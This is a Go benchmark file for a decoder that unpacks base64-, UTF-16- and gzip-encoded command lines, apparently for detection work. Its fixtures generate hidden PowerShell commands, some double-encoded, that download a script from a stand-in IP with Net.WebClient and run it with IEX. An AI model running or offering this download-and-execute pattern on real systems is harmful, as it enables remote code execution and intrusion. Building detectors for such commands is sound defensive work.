package unpack

import (
	"encoding/base64"
	"fmt"
	"regexp"
	"strings"
	"testing"
	"unicode/utf16"
)

// commands returns command lines as intruders write them: made-up scripts of
// 60 to 1,500 characters behind -enc, one in four with one more layer inside.
func commands() []string {
	var out []string
	for i := range 64 {
		s := fmt.Sprintf("$c=New-Object Net.WebClient;IEX $c.DownloadString('http://198.51.100.%d/%d.ps1');", i, i*7919)
		s += strings.Repeat(fmt.Sprintf("$v%d=[Environment]::GetEnvironmentVariable('TEMP');", i), i%16*2)
		if i%4 == 0 {
			s = "$x='" + b64([]byte(s)) + "';IEX ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($x)))"
		}
		out = append(out, "powershell.exe -NoP -NonI -W Hidden -enc "+b64(wide(s)))
	}
	return out
}

func BenchmarkEncodedCommand(b *testing.B) {
	rows := commands()
	u := New(Limits{})
	b.ReportAllocs()
	i := 0
	for b.Loop() {
		if len(u.Unpack(rows[i%len(rows)])) == 0 {
			b.Fatal("nothing unpacked")
		}
		i++
	}
	perRow(b)
}

// BenchmarkNaive decodes the same rows by a regular expression, the standard
// library's decoders, and recursion into whatever is text.
func BenchmarkNaive(b *testing.B) {
	rows := commands()
	b.ReportAllocs()
	i := 0
	for b.Loop() {
		if len(naive(rows[i%len(rows)])) == 0 {
			b.Fatal("nothing unpacked")
		}
		i++
	}
	perRow(b)
}

var candidates = regexp.MustCompile(`[A-Za-z0-9+/]{16,}={0,2}`)

func naive(text string) []string {
	var out []string
	for _, m := range candidates.FindAllString(text, -1) {
		data, err := base64.StdEncoding.DecodeString(m)
		if err != nil {
			continue
		}
		s := string(data)
		if strings.Count(s, "\x00") >= len(s)/3 {
			var units []uint16
			for i := 0; i+1 < len(data); i += 2 {
				units = append(units, uint16(data[i])|uint16(data[i+1])<<8)
			}
			s = string(utf16.Decode(units))
		}
		out = append(append(out, s), naive(s)...)
	}
	return out
}

// BenchmarkPlain reads command lines in which nothing is packed.
func BenchmarkPlain(b *testing.B) {
	rows := []string{
		`"C:\Program Files\Common Files\Microsoft Shared\ClickToRun\OfficeClickToRun.exe" /service`,
		`C:\Windows\system32\svchost.exe -k LocalServiceNetworkRestricted -p -s WinHttpAutoProxySvc`,
		`C:\Windows\System32\RuntimeBroker.exe -Embedding {6B29FC40-CA47-1067-B31D-00DD010662DA}`,
		`/usr/lib/x86_64-linux-gnu/gstreamer1.0/gst-plugin-scanner -l /usr/bin/gnome-shell --mode=user`,
	}
	u := New(Limits{})
	b.ReportAllocs()
	i := 0
	for b.Loop() {
		if len(u.Unpack(rows[i%len(rows)])) != 0 {
			b.Fatal("something unpacked")
		}
		i++
	}
	perRow(b)
}

func BenchmarkGzip(b *testing.B) {
	row := "FromBase64String('" + b64(packed(b, "gzip", []byte(strings.Repeat(script+"\n", 30)))) + "')"
	u := New(Limits{})
	b.ReportAllocs()
	for b.Loop() {
		if len(u.Unpack(row)) != 2 {
			b.Fatal("want two layers")
		}
	}
	perRow(b)
}

func perRow(b *testing.B) {
	b.ReportMetric(float64(b.N)/b.Elapsed().Seconds(), "rows/s")
}
